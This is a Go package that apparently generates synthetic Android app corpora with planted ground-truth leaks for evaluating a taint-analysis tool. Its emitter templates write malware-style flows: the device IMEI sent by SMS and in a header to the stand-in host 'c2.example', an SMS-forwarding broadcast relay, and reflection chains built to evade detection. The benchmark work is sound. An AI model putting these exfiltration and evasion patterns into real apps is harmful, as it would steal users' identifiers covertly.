// Package appgen generates synthetic Android app corpora for the RQ3
// experiments. The paper analyzed the 500 most popular Google Play apps
// and about 1,000 malware samples from VirusShare; neither corpus can be
// redistributed, so this package generates populations calibrated to the
// paper's observations instead:
//
//   - "Play" profile: larger apps with much benign helper code; the
//     majority accidentally leak identifiers (IMEI, location) into logs
//     and preference files — the ad-library pattern — but nothing truly
//     malicious (no SMS/network exfiltration of identifiers).
//   - "Malware" profile: comparatively small apps averaging ≈1.85 leaks
//     per sample, typically identification data sent via SMS or to a
//     remote server, including broadcast-receiver relays that forward
//     received data as SMS.
//
// Generation is fully deterministic from a seed, and each generated app
// records its injected ground truth so the harness can check the analysis
// end to end at corpus scale.
package appgen

import (
	"fmt"
	"math/rand"
	"strings"
)

// minMax is an inclusive integer range.
type minMax struct{ Min, Max int }

// MinMax builds an inclusive integer range for Profile fields, letting
// callers derive custom profiles from the built-in ones.
func MinMax(min, max int) minMax { return minMax{min, max} }

func (m minMax) pick(r *rand.Rand) int {
	if m.Max <= m.Min {
		return m.Min
	}
	return m.Min + r.Intn(m.Max-m.Min+1)
}

// Profile describes an app population.
type Profile struct {
	Name       string
	Activities minMax
	Services   minMax
	Receivers  minMax
	// Helpers are benign utility classes; NoiseMethods/NoiseStmts size
	// them.
	Helpers      minMax
	NoiseMethods minMax
	NoiseStmts   minMax

	// Per-app injection probabilities for the leak patterns.
	PImeiToLog      float64 // identifier logged (the Samsung Push Service pattern)
	PLocToPrefs     float64 // location into a preferences file (Hugo Runner)
	PPwdToLog       float64 // password field logged
	PImeiToSms      float64 // identifier exfiltrated via SMS (malware)
	PImeiToNet      float64 // identifier in an HTTP header (malware)
	PBroadcastRelay float64 // received broadcasts forwarded as SMS (malware)

	// Reflective leak patterns (the evasion technique the constant-
	// propagation pass exists to see through).
	PReflectLog   float64 // identifier logged via Class.forName("const").getMethod("leak").invoke
	PReflectSBLog float64 // same, but the class name is assembled through a StringBuilder
	// PReflectDyn plants a genuinely dynamic reflective chain (class name
	// from the incoming intent): no constant analysis can resolve it, so
	// it contributes no leak — only unresolved soundness entries.
	PReflectDyn float64
}

// Play is the Google-Play-like population profile.
var Play = Profile{
	Name:         "play",
	Activities:   minMax{2, 5},
	Services:     minMax{0, 2},
	Receivers:    minMax{0, 1},
	Helpers:      minMax{4, 10},
	NoiseMethods: minMax{3, 6},
	NoiseStmts:   minMax{4, 10},
	PImeiToLog:   0.60,
	PLocToPrefs:  0.35,
	PPwdToLog:    0.05,
}

// Malware is the VirusShare-like population profile.
var Malware = Profile{
	Name:            "malware",
	Activities:      minMax{1, 2},
	Services:        minMax{0, 1},
	Receivers:       minMax{1, 2},
	Helpers:         minMax{1, 3},
	NoiseMethods:    minMax{1, 3},
	NoiseStmts:      minMax{2, 6},
	PImeiToSms:      0.90,
	PBroadcastRelay: 0.55,
	PImeiToNet:      0.40,
}

// Reflection is the evasion-pattern profile: apps that route identifier
// leaks through the reflection API instead of direct calls. Most use
// constant (or StringBuilder-assembled) names the constant-propagation
// pass resolves; about half additionally contain a genuinely dynamic
// chain that must surface in the soundness report rather than the leak
// report.
var Reflection = Profile{
	Name:          "reflection",
	Activities:    minMax{1, 3},
	Services:      minMax{0, 1},
	Helpers:       minMax{2, 5},
	NoiseMethods:  minMax{2, 4},
	NoiseStmts:    minMax{3, 8},
	PImeiToLog:    0.40,
	PReflectLog:   0.80,
	PReflectSBLog: 0.50,
	PReflectDyn:   0.50,
}

// Stress is a deliberately oversized profile, an order of magnitude above
// Play: every leak pattern enabled, dozens of helper classes. The
// scalability and resilience tests use it as the app that is expensive
// enough for deadlines and propagation budgets to bite mid-analysis.
var Stress = Profile{
	Name:         "stress",
	Activities:   minMax{12, 12},
	Services:     minMax{4, 4},
	Receivers:    minMax{3, 3},
	Helpers:      minMax{25, 25},
	NoiseMethods: minMax{8, 8},
	NoiseStmts:   minMax{15, 25},
	PImeiToLog:   1.0,
	PLocToPrefs:  1.0,
	PImeiToSms:   1.0,
	PImeiToNet:   1.0,
	PPwdToLog:    1.0,
}

// App is one generated application with its injected ground truth.
type App struct {
	Name  string
	Files map[string]string
	// InjectedLeaks is the number of planted source-to-sink flows.
	InjectedLeaks int
	// LeakKinds names the planted patterns.
	LeakKinds []string
	// ReflectiveLeaks counts how many of InjectedLeaks flow through a
	// resolvable reflective call: they are found only when the analysis
	// runs with reflection resolution on.
	ReflectiveLeaks int
	// DynamicReflectiveChains counts planted reflective chains whose
	// class name is genuinely dynamic: never a leak, always unresolved
	// soundness entries.
	DynamicReflectiveChains int
	// Classes counts the generated classes (a size proxy).
	Classes int
}

// Generate produces the idx-th app of a profile, deterministically from
// the rng.
func Generate(r *rand.Rand, p Profile, idx int) App {
	g := &gen{r: r, pkg: fmt.Sprintf("com.%s.app%03d", p.Name, idx)}

	nAct := p.Activities.pick(r)
	if nAct == 0 {
		nAct = 1
	}
	nSvc := p.Services.pick(r)
	nRcv := p.Receivers.pick(r)
	nHelp := p.Helpers.pick(r)

	// Decide the injected leaks up front and distribute them over
	// components.
	type injection struct{ kind string }
	var inj []injection
	roll := func(prob float64, kind string) {
		if prob > 0 && r.Float64() < prob {
			inj = append(inj, injection{kind})
		}
	}
	roll(p.PImeiToLog, "imei->log")
	roll(p.PLocToPrefs, "location->prefs")
	roll(p.PPwdToLog, "password->log")
	roll(p.PImeiToSms, "imei->sms")
	roll(p.PImeiToNet, "imei->net")
	if nRcv > 0 {
		roll(p.PBroadcastRelay, "broadcast->sms")
	}
	reflective := 0
	if p.PReflectLog > 0 && r.Float64() < p.PReflectLog {
		inj = append(inj, injection{"imei->reflect-log"})
		reflective++
	}
	if p.PReflectSBLog > 0 && r.Float64() < p.PReflectSBLog {
		inj = append(inj, injection{"imei->reflect-sb-log"})
		reflective++
	}
	// A dynamic chain is not a leak: it is distributed to the first
	// activity directly, bypassing the injection bookkeeping.
	dynChains := 0
	if p.PReflectDyn > 0 && r.Float64() < p.PReflectDyn {
		dynChains = 1
	}

	// Helper classes (benign noise).
	for h := 0; h < nHelp; h++ {
		g.emitHelper(h, p.NoiseMethods.pick(r), p.NoiseStmts)
	}

	// Assign activity-borne leaks round-robin over the activities.
	perActivity := make([][]string, nAct)
	var receiverLeaks []string
	for i, in := range inj {
		switch in.kind {
		case "broadcast->sms":
			receiverLeaks = append(receiverLeaks, in.kind)
		default:
			a := i % nAct
			perActivity[a] = append(perActivity[a], in.kind)
		}
	}
	for d := 0; d < dynChains; d++ {
		perActivity[0] = append(perActivity[0], "imei->reflect-dyn")
	}

	var comps []string
	for a := 0; a < nAct; a++ {
		name := fmt.Sprintf("Activity%d", a)
		g.emitActivity(name, perActivity[a], nHelp, p.NoiseStmts)
		comps = append(comps, "activity:"+name)
	}
	for s := 0; s < nSvc; s++ {
		name := fmt.Sprintf("Service%d", s)
		g.emitService(name, nHelp, p.NoiseStmts)
		comps = append(comps, "service:"+name)
	}
	for rc := 0; rc < nRcv; rc++ {
		name := fmt.Sprintf("Receiver%d", rc)
		leak := rc == 0 && len(receiverLeaks) > 0
		g.emitReceiver(name, leak)
		comps = append(comps, "receiver:"+name)
	}

	if g.needReflSink {
		g.emitReflSink()
	}

	kinds := make([]string, 0, len(inj))
	for _, in := range inj {
		kinds = append(kinds, in.kind)
	}
	return App{
		Name:                    g.pkg,
		Files:                   g.files(comps),
		InjectedLeaks:           len(inj),
		LeakKinds:               kinds,
		ReflectiveLeaks:         reflective,
		DynamicReflectiveChains: dynChains,
		Classes:                 g.classes,
	}
}

// GenerateCorpus produces n apps from a fixed seed.
func GenerateCorpus(p Profile, n int, seed int64) []App {
	r := rand.New(rand.NewSource(seed))
	out := make([]App, 0, n)
	for i := 0; i < n; i++ {
		out = append(out, Generate(r, p, i))
	}
	return out
}

// ---------------------------------------------------------------- emitter

type gen struct {
	r            *rand.Rand
	pkg          string
	code         strings.Builder
	classes      int
	uniq         int
	needPwd      bool
	needReflSink bool
}

func (g *gen) fresh(stem string) string {
	g.uniq++
	return fmt.Sprintf("%s%d", stem, g.uniq)
}

// emitHelper writes a benign utility class with string-shuffling methods.
func (g *gen) emitHelper(idx, methods int, stmts minMax) {
	g.classes++
	fmt.Fprintf(&g.code, "class %s.Helper%d {\n", g.pkg, idx)
	for m := 0; m < methods; m++ {
		fmt.Fprintf(&g.code, "  static method work%d(x: java.lang.String): java.lang.String {\n", m)
		cur := "x"
		n := stmts.pick(g.r)
		for s := 0; s < n; s++ {
			nxt := g.fresh("v")
			switch g.r.Intn(5) {
			case 0:
				fmt.Fprintf(&g.code, "    %s = %s + \"-%d\"\n", nxt, cur, s)
			case 1:
				fmt.Fprintf(&g.code, "    %s = %s.trim()\n", nxt, cur)
			case 2:
				fmt.Fprintf(&g.code, "    %s = %s.toUpperCase()\n", nxt, cur)
			case 3:
				// Launder through a StringBuilder chain: taint must survive
				// append/insert (value into receiver) and toString (receiver
				// back out), exercising the string-carrier transfers. The
				// multi-call chain gives the receiver alias search a real
				// backward region to walk.
				sb := g.fresh("sb")
				fmt.Fprintf(&g.code, "    %s = new java.lang.StringBuilder()\n", sb)
				fmt.Fprintf(&g.code, "    %s.append(\"seed-%d\")\n", sb, s)
				fmt.Fprintf(&g.code, "    %s.append(%s)\n", sb, cur)
				fmt.Fprintf(&g.code, "    %s.insert(0, %s)\n", sb, cur)
				fmt.Fprintf(&g.code, "    %s = %s.toString()\n", nxt, sb)
			default:
				fmt.Fprintf(&g.code, "    %s = %s.substring(1)\n", nxt, cur)
			}
			cur = nxt
		}
		fmt.Fprintf(&g.code, "    return %s\n  }\n", cur)
	}
	g.code.WriteString("}\n")
}

// launder routes a value through a random helper to make the flows
// interprocedural, returning the local holding the result.
func (g *gen) launder(val string, nHelpers int) string {
	if nHelpers == 0 {
		return val
	}
	h := g.r.Intn(nHelpers)
	out := g.fresh("w")
	fmt.Fprintf(&g.code, "    %s = %s.Helper%d.work0(%s)\n", out, g.pkg, h, val)
	return out
}

func (g *gen) emitNoise(stmts minMax) {
	n := stmts.pick(g.r)
	cur := g.fresh("n")
	fmt.Fprintf(&g.code, "    %s = \"noise\"\n", cur)
	for s := 0; s < n; s++ {
		nxt := g.fresh("n")
		fmt.Fprintf(&g.code, "    %s = %s + \"x\"\n", nxt, cur)
		cur = nxt
	}
}

func (g *gen) emitActivity(name string, leaks []string, nHelpers int, stmts minMax) {
	g.classes++
	fmt.Fprintf(&g.code, "class %s.%s extends android.app.Activity {\n", g.pkg, name)
	g.code.WriteString("  method onCreate(b: android.os.Bundle): void {\n")
	if g.needsLayout(leaks) {
		g.code.WriteString("    this.setContentView(@layout/main)\n")
	}
	g.emitNoise(stmts)
	for _, kind := range leaks {
		g.emitLeak(kind, nHelpers)
	}
	g.code.WriteString("    return\n  }\n")
	g.code.WriteString("}\n")
}

func (g *gen) needsLayout(leaks []string) bool {
	for _, k := range leaks {
		if k == "password->log" {
			g.needPwd = true
			return true
		}
	}
	return false
}

// emitLeak writes one planted flow inside the current method body.
func (g *gen) emitLeak(kind string, nHelpers int) {
	switch kind {
	case "imei->log":
		v := g.imei()
		w := g.launder(v, nHelpers)
		fmt.Fprintf(&g.code, "    android.util.Log.i(\"app\", %s)\n", w)
	case "location->prefs":
		v := g.location()
		w := g.launder(v, nHelpers)
		p, ed := g.fresh("p"), g.fresh("ed")
		fmt.Fprintf(&g.code, "    %s = this.getSharedPreferences(\"state\", 0)\n", p)
		fmt.Fprintf(&g.code, "    %s = %s.edit()\n", ed, p)
		fmt.Fprintf(&g.code, "    %s.putString(\"loc\", %s)\n", ed, w)
	case "password->log":
		raw, et, pv := g.fresh("raw"), g.fresh("et"), g.fresh("pv")
		fmt.Fprintf(&g.code, "    %s = this.findViewById(@id/pwd)\n", raw)
		fmt.Fprintf(&g.code, "    local %s: android.widget.EditText\n", et)
		fmt.Fprintf(&g.code, "    %s = (android.widget.EditText) %s\n", et, raw)
		fmt.Fprintf(&g.code, "    %s = %s.getText()\n", pv, et)
		w := g.launder(pv, nHelpers)
		fmt.Fprintf(&g.code, "    android.util.Log.d(\"auth\", %s)\n", w)
	case "imei->sms":
		v := g.imei()
		w := g.launder(v, nHelpers)
		s := g.fresh("sms")
		fmt.Fprintf(&g.code, "    %s = android.telephony.SmsManager.getDefault()\n", s)
		fmt.Fprintf(&g.code, "    %s.sendTextMessage(\"+7 900\", null, %s, null, null)\n", s, w)
	case "imei->net":
		v := g.imei()
		w := g.launder(v, nHelpers)
		u, c := g.fresh("u"), g.fresh("c")
		fmt.Fprintf(&g.code, "    %s = new java.net.URL(\"http://c2.example/ping\")\n", u)
		fmt.Fprintf(&g.code, "    %s = %s.openConnection()\n", c, u)
		fmt.Fprintf(&g.code, "    %s.setRequestProperty(\"X-Id\", %s)\n", c, w)
	case "imei->reflect-log":
		v := g.imei()
		w := g.launder(v, nHelpers)
		clz := g.fresh("clz")
		fmt.Fprintf(&g.code, "    %s = java.lang.Class.forName(%q)\n", clz, g.pkg+".ReflSink")
		g.emitReflectInvoke(clz, w)
	case "imei->reflect-sb-log":
		// The class name is laundered through a StringBuilder: the
		// constant-propagation pass must track append/toString to resolve
		// the chain.
		v := g.imei()
		w := g.launder(v, nHelpers)
		sb, cn, clz := g.fresh("sb"), g.fresh("cn"), g.fresh("clz")
		fmt.Fprintf(&g.code, "    %s = new java.lang.StringBuilder()\n", sb)
		fmt.Fprintf(&g.code, "    %s.append(%q)\n", sb, g.pkg+".Refl")
		fmt.Fprintf(&g.code, "    %s.append(\"Sink\")\n", sb)
		fmt.Fprintf(&g.code, "    %s = %s.toString()\n", cn, sb)
		fmt.Fprintf(&g.code, "    %s = java.lang.Class.forName(%s)\n", clz, cn)
		g.emitReflectInvoke(clz, w)
	case "imei->reflect-dyn":
		// The class name comes from the incoming intent — unresolvable by
		// any constant analysis. The would-be leak stays invisible; the
		// chain must show up in the soundness report instead.
		v := g.imei()
		w := g.launder(v, nHelpers)
		it, cn, clz := g.fresh("it"), g.fresh("cn"), g.fresh("clz")
		fmt.Fprintf(&g.code, "    %s = this.getIntent()\n", it)
		fmt.Fprintf(&g.code, "    %s = %s.getStringExtra(\"cls\")\n", cn, it)
		fmt.Fprintf(&g.code, "    %s = java.lang.Class.forName(%s)\n", clz, cn)
		g.emitReflectInvoke(clz, w)
	}
}

// emitReflectInvoke writes the newInstance/getMethod/invoke tail of a
// reflective chain, passing val through the invoke boxing boundary.
func (g *gen) emitReflectInvoke(clz, val string) {
	g.needReflSink = true
	obj, mth, rr := g.fresh("obj"), g.fresh("mth"), g.fresh("rr")
	fmt.Fprintf(&g.code, "    %s = %s.newInstance()\n", obj, clz)
	fmt.Fprintf(&g.code, "    %s = %s.getMethod(\"leak\")\n", mth, clz)
	fmt.Fprintf(&g.code, "    %s = %s.invoke(%s, %s)\n", rr, mth, obj, val)
}

// emitReflSink writes the reflective call target: an ordinary class
// whose leak method logs its argument. It is only ever reached through
// the bridges the constant-propagation pass materializes.
func (g *gen) emitReflSink() {
	g.classes++
	fmt.Fprintf(&g.code, "class %s.ReflSink {\n", g.pkg)
	g.code.WriteString("  method leak(msg: java.lang.String): void {\n")
	g.code.WriteString("    android.util.Log.i(\"refl\", msg)\n")
	g.code.WriteString("    return\n  }\n}\n")
}

// imei emits the device-id source and returns the local holding it.
func (g *gen) imei() string {
	raw, tm, id := g.fresh("raw"), g.fresh("tm"), g.fresh("id")
	fmt.Fprintf(&g.code, "    %s = this.getSystemService(\"phone\")\n", raw)
	fmt.Fprintf(&g.code, "    local %s: android.telephony.TelephonyManager\n", tm)
	fmt.Fprintf(&g.code, "    %s = (android.telephony.TelephonyManager) %s\n", tm, raw)
	fmt.Fprintf(&g.code, "    %s = %s.getDeviceId()\n", id, tm)
	return id
}

// location emits the location source.
func (g *gen) location() string {
	raw, lm, lc, s := g.fresh("raw"), g.fresh("lm"), g.fresh("lc"), g.fresh("ls")
	fmt.Fprintf(&g.code, "    %s = this.getSystemService(\"location\")\n", raw)
	fmt.Fprintf(&g.code, "    local %s: android.location.LocationManager\n", lm)
	fmt.Fprintf(&g.code, "    %s = (android.location.LocationManager) %s\n", lm, raw)
	fmt.Fprintf(&g.code, "    %s = %s.getLastKnownLocation(\"gps\")\n", lc, lm)
	fmt.Fprintf(&g.code, "    %s = %s.toString()\n", s, lc)
	return s
}

func (g *gen) emitService(name string, nHelpers int, stmts minMax) {
	g.classes++
	fmt.Fprintf(&g.code, "class %s.%s extends android.app.Service {\n", g.pkg, name)
	g.code.WriteString("  method onStartCommand(i: android.content.Intent): void {\n")
	g.emitNoise(stmts)
	g.code.WriteString("    return\n  }\n}\n")
}

func (g *gen) emitReceiver(name string, relay bool) {
	g.classes++
	fmt.Fprintf(&g.code, "class %s.%s extends android.content.BroadcastReceiver {\n", g.pkg, name)
	g.code.WriteString("  method onReceive(c: android.content.Context, i: android.content.Intent): void {\n")
	if relay {
		// The malware relay: data received via broadcast is forwarded by
		// SMS, letting other apps send texts without the permission.
		d, s := g.fresh("d"), g.fresh("sm")
		fmt.Fprintf(&g.code, "    %s = i.getStringExtra(\"payload\")\n", d)
		fmt.Fprintf(&g.code, "    %s = android.telephony.SmsManager.getDefault()\n", s)
		fmt.Fprintf(&g.code, "    %s.sendTextMessage(\"+7 901\", null, %s, null, null)\n", s, d)
	}
	g.code.WriteString("    return\n  }\n}\n")
}

func (g *gen) files(comps []string) map[string]string {
	var mf strings.Builder
	fmt.Fprintf(&mf, "<manifest package=%q>\n  <application>\n", g.pkg)
	for i, c := range comps {
		kind, name, _ := strings.Cut(c, ":")
		main := ""
		if i == 0 {
			main = "<intent-filter><action android:name=\"android.intent.action.MAIN\"/></intent-filter>"
		}
		fmt.Fprintf(&mf, "    <%s android:name=\".%s\">%s</%s>\n", kind, name, main, kind)
	}
	mf.WriteString("  </application>\n</manifest>\n")
	files := map[string]string{
		"AndroidManifest.xml": mf.String(),
		"classes.ir":          g.code.String(),
	}
	if g.needPwd {
		files["res/layout/main.xml"] = `<LinearLayout>
  <EditText android:id="@+id/pwd" android:inputType="textPassword"/>
</LinearLayout>`
	}
	return files
}
